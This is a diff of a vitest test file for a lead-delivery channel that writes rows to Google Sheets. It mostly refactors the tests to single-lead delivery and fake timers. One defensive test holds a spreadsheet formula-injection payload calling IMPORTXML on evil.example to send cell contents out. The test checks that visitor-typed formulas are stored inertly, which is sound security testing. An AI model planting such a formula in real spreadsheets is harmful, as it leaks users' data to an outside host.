@@ -1,14 +1,13 @@
-import { describe, expect, it } from 'vitest';
+import { describe, expect, it, onTestFinished, vi } from 'vitest';
 import type { DeliveredLead } from '../../server/delivery/channels/Channel.ts';
 import type { ReceivedCall } from '../support/receivers.ts';
 import { storedLead } from '../support/sampleLead.ts';
 import { startSheets } from '../support/vendors/googleSheets.ts';
-import { delivered, never, noon, setUpChannel } from '../support/vendors/setUpChannel.ts';
+import { delivered, never, setUpChannel } from '../support/vendors/setUpChannel.ts';
 
 type Env = { env: Record<string, string> };
 
-const deliver = (vendor: Env, leads: DeliveredLead[] = []) =>
-  setUpChannel('sheets', vendor).deliver(...leads);
+const deliver = (vendor: Env, lead?: DeliveredLead) => setUpChannel('sheets', vendor).deliver(lead);
 
 const findFaults = (vendor: Env) => setUpChannel('sheets', vendor).findFaults();
 
@@ -23,16 +22,13 @@ const second = storedLead({ id: 8, protocol: 'D0D0-0001', name: 'Bia' });
 const isOf = (path: string) => (call: ReceivedCall) => call.url.includes(path);
 
 describe('the sheet', () => {
-  it('gets its titles once, then a row for each lead, the oldest first', async () => {
+  it('gets its titles once, then a row for each lead', async () => {
     const vendor = await startSheets();
     const first = storedLead({ abandoned_carts: 1200, average_value: 1499.9 });
-    expect(await deliver(vendor, [second, first])).toEqual(delivered);
-    expect(await deliver(vendor, [storedLead({ id: 9, protocol: 'D0D0-0002' })])).toEqual(
-      delivered,
-    );
+    for (const lead of [first, second]) expect(await deliver(vendor, lead)).toEqual(delivered);
     expect(vendor.grid[0]).toEqual(titles);
     const protocols = vendor.grid.slice(1).map((row) => row[0]);
-    expect(protocols).toEqual(['C7F3-A91D', 'D0D0-0001', 'D0D0-0002']);
+    expect(protocols).toEqual(['C7F3-A91D', 'D0D0-0001']);
     expect(vendor.grid[1]).toEqual([
       ...['C7F3-A91D', 7, '21/11/2026 09:05:07', 'Ana Conceição', '(11) 98765-4321'],
       ...['ana@calcadosaurora.com.br', '', 'Via formulário rápido', '', 1200, 1499.9, ''],
@@ -44,7 +40,7 @@ describe('the sheet', () => {
     const vendor = await startSheets();
     vendor.grid.push(['Vendedor', 'Telefone', 'Quem é', '', ' Protocolo ', 'Nome'], ['Rui']);
     expect(await deliver(vendor)).toEqual(delivered);
-    expect(await deliver(vendor, [second])).toEqual(delivered);
+    expect(await deliver(vendor, second)).toEqual(delivered);
     expect(vendor.grid.slice(2)).toEqual([
       ['', '(11) 98765-4321', '', '', 'C7F3-A91D', 'Ana Conceição'],
       ['', '(11) 98765-4321', '', '', 'D0D0-0001', 'Bia'],
@@ -68,7 +64,7 @@ describe('the sheet', () => {
   it('runs no formula that a visitor has typed', async () => {
     const vendor = await startSheets();
     const formula = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
-    await deliver(vendor, [storedLead({ name: formula, notes: '+1+1' })]);
+    await deliver(vendor, storedLead({ name: formula, notes: '+1+1' }));
     expect(vendor.grid[1]?.[3]).toBe(formula);
     expect(vendor.grid[1]?.[8]).toBe('+1+1');
   });
@@ -79,9 +75,9 @@ describe('a repeat', () => {
     const vendor = await startSheets();
     await deliver(vendor);
     vendor.losesAnswer = isOf(':append');
-    expect((await deliver(vendor, [second])).kind).toBe('failed');
+    expect((await deliver(vendor, second)).kind).toBe('failed');
     vendor.losesAnswer = null;
-    expect(await deliver(vendor, [second])).toEqual(delivered);
+    expect(await deliver(vendor, second)).toEqual(delivered);
     expect(vendor.grid).toHaveLength(3);
   });
 
@@ -97,35 +93,30 @@ describe('a repeat', () => {
 describe('the token', () => {
   it('is kept until shortly before its end', async () => {
     const vendor = await startSheets();
-    let now = noon;
-    const send = await setUpChannel('sheets', vendor).open(() => now);
-    await send([storedLead()], never);
-    now = new Date(noon.getTime() + 58 * 60_000);
-    await send([second], never);
+    vi.useFakeTimers({ toFake: ['Date'] });
+    onTestFinished(() => void vi.useRealTimers());
+    const start = Date.now();
+    const send = await setUpChannel('sheets', vendor).open();
+    await send(storedLead(), never);
+    vi.setSystemTime(start + 58 * 60_000);
+    await send(second, never);
     expect(vendor.tokens()).toBe(1);
-    now = new Date(noon.getTime() + 59 * 60_000);
-    await send([second], never);
+    vi.setSystemTime(start + 59 * 60_000);
+    await send(second, never);
     expect(vendor.tokens()).toBe(2);
   });
 
   it('is asked for once more after 401, and then no more for this time', async () => {
     const vendor = await startSheets();
     const send = await setUpChannel('sheets', vendor).open();
-    await send([storedLead()], never);
+    await send(storedLead(), never);
     vendor.expireTokens();
-    expect(await send([second], never)).toEqual(delivered);
+    expect(await send(second, never)).toEqual(delivered);
     expect(vendor.tokens()).toBe(2);
     vendor.interrupt = (response, call) => !isOf('/token')(call) && response.writeHead(401).end();
-    const outcome = await send([storedLead({ id: 9, protocol: null })], never);
-    expect(outcome).toEqual({ kind: 'failed', failure: 'HTTP 401', notBefore: null });
+    const outcome = await send(storedLead({ id: 9, protocol: null }), never);
+    expect(outcome).toEqual({ kind: 'failed', failure: 'HTTP 401' });
     expect(vendor.tokens()).toBe(3);
-  });
-
-  it('that Google refuses to give is asked for again later: a key may be put right', async () => {
-    const vendor = await startSheets();
-    const env = { ...vendor.env, SHEETS_CLIENT_EMAIL: 'other@loja.example' };
-    const failure = 'HTTP 400 invalid_grant';
-    expect(await deliver({ env })).toEqual({ kind: 'failed', failure, notBefore: null });
   });
 });
 
@@ -165,19 +156,12 @@ describe('erasing a lead', () => {
   it("deletes its rows wherever they stand, and no other lead's", async () => {
     const vendor = await startSheets();
     const twin = storedLead({ id: 8, name: 'Bia' });
-    await deliver(vendor, [second, twin, storedLead()]);
+    for (const lead of [storedLead(), twin, second]) await deliver(vendor, lead);
     const [own] = vendor.grid.splice(1, 1);
     vendor.grid.push(own ?? [], ['à mão'], own ?? []);
     expect(await erase(vendor)).toEqual({ kind: 'erased' });
     expect(vendor.grid.slice(1).map((row) => row[3])).toEqual(['Bia', 'Bia', undefined]);
     expect(await erase(vendor)).toEqual({ kind: 'absent' });
     expect(vendor.grid).toHaveLength(4);
-  });
-
-  it('has nothing to do in an empty sheet, and says where it cannot tell', async () => {
-    const vendor = await startSheets();
-    expect(await erase(vendor)).toEqual({ kind: 'absent' });
-    vendor.grid.push(['Nome'], ['Ana']);
-    expect(await erase(vendor)).toMatchObject({ failure: expect.stringContaining('Protocolo') });
   });
 });
